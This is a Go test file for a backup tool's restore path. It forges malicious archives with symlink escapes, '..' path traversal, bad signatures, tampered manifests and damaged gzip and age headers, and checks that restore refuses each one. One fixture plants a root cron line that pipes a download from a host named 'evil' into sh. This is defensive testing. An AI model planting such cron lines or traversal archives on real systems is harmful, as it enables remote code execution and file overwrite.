package backup

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/ed25519"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"filippo.io/age"
)

// forged is an archive taken apart, to be changed and written again as an
// attacker with write access to the backup folder would.
type forged struct {
	m     *Manifest
	files map[string][]byte // member (files/…) → content
	// tail is appended to the tar stream inside the gzip stream.
	tail []byte
}

// unpack reads a plain archive into memory.
func unpack(t *testing.T, name string) *forged {
	t.Helper()
	fg := &forged{files: map[string][]byte{}}
	for _, m := range readMembers(t, name) {
		_, rest, _ := strings.Cut(m.Header.Name, "/")
		switch rest {
		case ManifestName:
			var err error
			if fg.m, err = parseManifest(m.Body); err != nil {
				t.Fatal(err)
			}
		case SumsName, SignatureName:
		default:
			fg.files[rest] = m.Body
		}
	}
	return fg
}

// add adds a file entry with content.
func (fg *forged) add(path, mode, kind string, content []byte) {
	fg.m.Entries = append(fg.m.Entries, Entry{Path: path, Type: TypeFile, Mode: mode, Kind: kind})
	fg.files[member(path)] = content
}

// link adds a symlink entry.
func (fg *forged) link(path, target string) {
	fg.m.Entries = append(fg.m.Entries, Entry{Path: path, Type: TypeSymlink, Mode: "0777", Kind: "include", Target: target})
}

// write writes the archive, the digests recomputed, signed with key (none:
// unsigned); sigFor, when set, is signed instead of the written manifest.
func (fg *forged) write(t *testing.T, key ed25519.PrivateKey, alter func(mb []byte) []byte) string {
	t.Helper()
	for i := range fg.m.Entries {
		e := &fg.m.Entries[i]
		if e.Type == TypeFile {
			sum := sha256.Sum256(fg.files[member(e.Path)])
			e.SHA256, e.Size = hex.EncodeToString(sum[:]), int64(len(fg.files[member(e.Path)]))
		}
	}
	sort.Slice(fg.m.Entries, func(i, j int) bool { return fg.m.Entries[i].Path < fg.m.Entries[j].Path })
	mb, err := encodeManifest(fg.m)
	if err != nil {
		t.Fatal(err)
	}
	sumsOf := func(mb []byte) []byte {
		sums := map[string]string{}
		for mem, b := range fg.files {
			s := sha256.Sum256(b)
			sums[mem] = hex.EncodeToString(s[:])
		}
		s := sha256.Sum256(mb)
		sums[ManifestName] = hex.EncodeToString(s[:])
		var sb strings.Builder
		writeSums(&sb, sums)
		return []byte(sb.String())
	}
	sb := sumsOf(mb)
	var sig []byte
	if key != nil {
		if sig, err = signArchive(key, mb, sb); err != nil {
			t.Fatal(err)
		}
	}
	if alter != nil { // changed after signing
		mb = alter(mb)
		sb = sumsOf(mb)
	}
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	put := func(name string, b []byte) {
		tw.WriteHeader(&tar.Header{Typeflag: tar.TypeReg, Name: fg.m.Name + "/" + name, Mode: 0o600, Size: int64(len(b))})
		tw.Write(b)
	}
	mems := make([]string, 0, len(fg.files))
	for mem := range fg.files {
		mems = append(mems, mem)
	}
	sort.Strings(mems)
	for _, mem := range mems {
		put(mem, fg.files[mem])
	}
	put(SumsName, sb)
	put(ManifestName, mb)
	if sig != nil {
		put(SignatureName, sig)
	}
	tw.Close()
	gz.Write(fg.tail)
	gz.Close()
	name := filepath.Join(t.TempDir(), fg.m.Name+".tar.gz")
	if err := os.WriteFile(name, buf.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	return name
}

// TestForgedArchivesRefused restores archives an attacker made (or a
// trusted key signed by mistake): each is refused with an error saying
// why, and nothing is written under the restore root.
func TestForgedArchivesRefused(t *testing.T) {
	p := newProfile(t)
	res, err := testBackup(Options{Configs: p.configs, OutDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	_, otherKey, _ := ed25519.GenerateKey(nil)
	id, idFile := identity(t)
	for _, tc := range []struct {
		name  string
		forge func(fg *forged) string // returns the archive path
		o     RestoreOptions
		is    error
		want  string
	}{
		{"symlink chain /L→. /a/L→. /a/evil→L/../L/../outside", func(fg *forged) string {
			fg.link("/L", ".")
			fg.link("/a/L", ".")
			fg.link("/a/evil", "L/../L/../outside")
			return fg.write(t, testSigningKey, nil)
		}, RestoreOptions{}, ErrCorrupt, `symlink target "."`},
		{"the chain's last link alone", func(fg *forged) string {
			fg.link("/a/evil", "L/../L/../outside")
			return fg.write(t, testSigningKey, nil)
		}, RestoreOptions{}, ErrCorrupt, `"L/../L/../outside" is not a relative path of plain names`},
		{"a link through another link", func(fg *forged) string {
			fg.link("/x/L", "y")
			fg.link("/x/z", "L/f")
			return fg.write(t, testSigningKey, nil)
		}, RestoreOptions{}, ErrCorrupt, "leads through the symlink /x/L"},
		{"a file under a link", func(fg *forged) string {
			fg.link("/x/L", "y")
			fg.add("/x/L/f", "0644", "include", []byte("x"))
			return fg.write(t, testSigningKey, nil)
		}, RestoreOptions{}, ErrCorrupt, "/x/L/f lies under the symlink /x/L"},
		// Paths that are not clean and absolute, signed by the trusted key:
		// refused as corrupt before anything else reads them (not left to
		// the os.Root, nor to the check of what configurations reference).
		{"a path with .. segments", func(fg *forged) string {
			fg.add(filepath.Join(p.dir, "etc")+"/../../../outside", "0644", "include", []byte("x"))
			return fg.write(t, testSigningKey, nil)
		}, RestoreOptions{}, ErrCorrupt, "is not a clean absolute path"},
		{"a relative path", func(fg *forged) string {
			fg.add("/etc/stella-mirror/extra.yaml", "0644", "include", []byte("x"))
			e := &fg.m.Entries[len(fg.m.Entries)-1]
			e.Path = strings.TrimPrefix(e.Path, "/") // the member stays files/etc/…
			return fg.write(t, testSigningKey, nil)
		}, RestoreOptions{}, ErrCorrupt, "is not a clean absolute path"},
		{"an absolute path no configuration references", func(fg *forged) string {
			fg.add("/etc/cron.d/evil", "0644", "config", []byte("* * * * * root sh -c 'curl evil|sh'\n"))
			return fg.write(t, testSigningKey, nil)
		}, RestoreOptions{}, ErrRefused, "/etc/cron.d/evil"},
		{"an include from an unsigned archive", func(fg *forged) string {
			extra := filepath.Join(p.dir, "extra")
			fg.m.Includes = []string{extra}
			fg.add(filepath.Join(extra, "x.txt"), "0644", "include", []byte("x"))
			return fg.write(t, nil, nil)
		}, RestoreOptions{AllowUnsigned: true}, ErrRefused, "only from a signed archive"},
		{"unsigned", func(fg *forged) string { return fg.write(t, nil, nil) },
			RestoreOptions{}, ErrSignature, "--allow-unsigned"},
		{"signed, no --verify-key", func(fg *forged) string { return fg.write(t, testSigningKey, nil) },
			RestoreOptions{VerifyKeys: []ed25519.PublicKey{}, AllowUnsigned: false}, ErrSignature, "--verify-key"},
		{"signed by an untrusted key", func(fg *forged) string { return fg.write(t, otherKey, nil) },
			RestoreOptions{}, ErrSignature, "does not verify against any --verify-key"},
		{"manifest changed after signing", func(fg *forged) string {
			return fg.write(t, testSigningKey, func(mb []byte) []byte {
				return bytes.Replace(mb, []byte(`"mode": "0600"`), []byte(`"mode": "0644"`), 1)
			})
		}, RestoreOptions{}, ErrSignature, "does not verify"},
		{"damaged gzip trailer", func(fg *forged) string {
			name := fg.write(t, testSigningKey, nil)
			b, _ := os.ReadFile(name)
			b[len(b)-6] ^= 0xff // inside the CRC-32
			os.WriteFile(name, b, 0o600)
			return name
		}, RestoreOptions{}, ErrCorrupt, "checksum"},
		{"gzip size field wrong", func(fg *forged) string {
			name := fg.write(t, testSigningKey, nil)
			b, _ := os.ReadFile(name)
			b[len(b)-1] ^= 0x01 // ISIZE, the last byte
			os.WriteFile(name, b, 0o600)
			return name
		}, RestoreOptions{}, ErrCorrupt, "checksum"},
		{"data after the tar's end", func(fg *forged) string {
			fg.tail = []byte("appended by someone")
			return fg.write(t, testSigningKey, nil)
		}, RestoreOptions{}, ErrCorrupt, "data after the end of the tar archive"},
		{"damaged age header", func(fg *forged) string {
			plain, _ := os.ReadFile(fg.write(t, testSigningKey, nil))
			var buf bytes.Buffer
			w, _ := age.Encrypt(&buf, id.Recipient())
			w.Write(plain)
			w.Close()
			b := bytes.Replace(buf.Bytes(), []byte("\n-> X25519 "), []byte("\n-> X25519\x01"), 1)
			name := filepath.Join(t.TempDir(), fg.m.Name+".tar.gz.age")
			os.WriteFile(name, b, 0o600)
			return name
		}, RestoreOptions{Identities: []age.Identity{id}, IdentityFile: idFile}, ErrAgeHeader, "not an age file / damaged age header"},
		{"damaged age header MAC", func(fg *forged) string {
			plain, _ := os.ReadFile(fg.write(t, testSigningKey, nil))
			var buf bytes.Buffer
			w, _ := age.Encrypt(&buf, id.Recipient())
			w.Write(plain)
			w.Close()
			b := buf.Bytes()
			mac := bytes.Index(b, []byte("\n--- ")) + 5 // the MAC's first base64 character
			if b[mac] == 'A' {
				b[mac] = 'B'
			} else {
				b[mac] = 'A'
			}
			name := filepath.Join(t.TempDir(), fg.m.Name+".tar.gz.age")
			os.WriteFile(name, b, 0o600)
			return name
		}, RestoreOptions{Identities: []age.Identity{id}, IdentityFile: idFile}, ErrAgeHeader, "bad header MAC"},
		{"a partial archive", func(fg *forged) string {
			name := fg.write(t, testSigningKey, nil)
			partial := filepath.Join(filepath.Dir(name), PartialPrefix+filepath.Base(name)+"-123")
			os.Rename(name, partial)
			return partial
		}, RestoreOptions{}, nil, "unfinished output of a backup run"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			fg := unpack(t, res.Archive)
			o := tc.o
			o.Archive = tc.forge(fg)
			o.Root = filepath.Join(t.TempDir(), "root")
			_, err := testRestore(o)
			if err == nil || (tc.is != nil && !errors.Is(err, tc.is)) || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("err = %v\nwant %v mentioning %q", err, tc.is, tc.want)
			}
			if tc.is == ErrAgeHeader && errors.Is(err, ErrWrongIdentity) {
				t.Errorf("a damaged header reported as a wrong identity: %v", err)
			}
			t.Log(err)
			emptyDir(t, o.Root)
		})
	}
}

// TestRestoreForcesSecretModes: whatever the manifest says (0644, 4755,
// not a secret), a file a configuration references as a secret is written
// 0640 or stricter, without set-id bits.
func TestRestoreForcesSecretModes(t *testing.T) {
	p := newProfile(t)
	res, err := testBackup(Options{Configs: p.configs, OutDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	fg := unpack(t, res.Archive)
	token := filepath.Join(p.dir, "etc", "stella-mirror", "credentials", "upstream-token")
	want := map[string]os.FileMode{token: 0o640, p.htpasswd: 0o640, filepath.Join(filepath.Dir(filepath.Dir(p.htpasswd)), "tls", "primary.key"): 0o600}
	modes := map[string]string{token: "0644", p.htpasswd: "4755", filepath.Join(filepath.Dir(filepath.Dir(p.htpasswd)), "tls", "primary.key"): "0604"}
	for i := range fg.m.Entries {
		e := &fg.m.Entries[i]
		if m, ok := modes[e.Path]; ok {
			e.Mode, e.Secret = m, false
		}
	}
	root := filepath.Join(t.TempDir(), "root")
	if _, err := testRestore(RestoreOptions{Archive: fg.write(t, testSigningKey, nil), Root: root}); err != nil {
		t.Fatal(err)
	}
	for f, mode := range want {
		fi, err := os.Stat(filepath.Join(root, f))
		if err != nil {
			t.Fatal(err)
		}
		if fi.Mode() != mode {
			t.Errorf("%s: restored %v, want %v (manifest said %s)", f, fi.Mode(), mode, modes[f])
		}
	}
}

// TestFailedValidationUndoesRestore: when the validation after the write
// fails, the new files are removed and the files --force replaced come
// back as they were.
func TestFailedValidationUndoesRestore(t *testing.T) {
	p := newProfile(t)
	res, err := testBackup(Options{Configs: p.configs, IncludeExports: true, OutDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	failing := func(context.Context, *Manifest, string) error { return errors.New("validation says no") }
	t.Run("empty root", func(t *testing.T) {
		root := filepath.Join(t.TempDir(), "root")
		_, err := testRestore(RestoreOptions{Archive: res.Archive, Root: root, Validate: failing})
		if err == nil || !strings.Contains(err.Error(), "validation says no") || !strings.Contains(err.Error(), "was removed") {
			t.Fatalf("err = %v", err)
		}
		emptyDir(t, root)
	})
	t.Run("force over existing files", func(t *testing.T) {
		root := filepath.Join(t.TempDir(), "root")
		if _, err := testRestore(RestoreOptions{Archive: res.Archive, Root: root}); err != nil {
			t.Fatal(err)
		}
		edited := filepath.Join(root, p.configs[0])
		if err := os.WriteFile(edited, []byte("edited"), 0o600); err != nil {
			t.Fatal(err)
		}
		before := listTree(t, root)
		if _, err := testRestore(RestoreOptions{Archive: res.Archive, Root: root, Force: true, Validate: failing}); err == nil {
			t.Fatal("no error")
		}
		if b, _ := os.ReadFile(edited); string(b) != "edited" {
			t.Errorf("the replaced file is %q, want it back as it was", b)
		}
		if after := listTree(t, root); after != before {
			t.Errorf("tree changed:\nbefore:\n%s\nafter:\n%s", before, after)
		}
	})
}

// listTree lists every path under root with its mode and size.
func listTree(t *testing.T, root string) string {
	t.Helper()
	var sb strings.Builder
	err := filepath.Walk(root, func(path string, fi os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		sb.WriteString(strings.TrimPrefix(path, root) + " " + fi.Mode().String() + "\n")
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return sb.String()
}
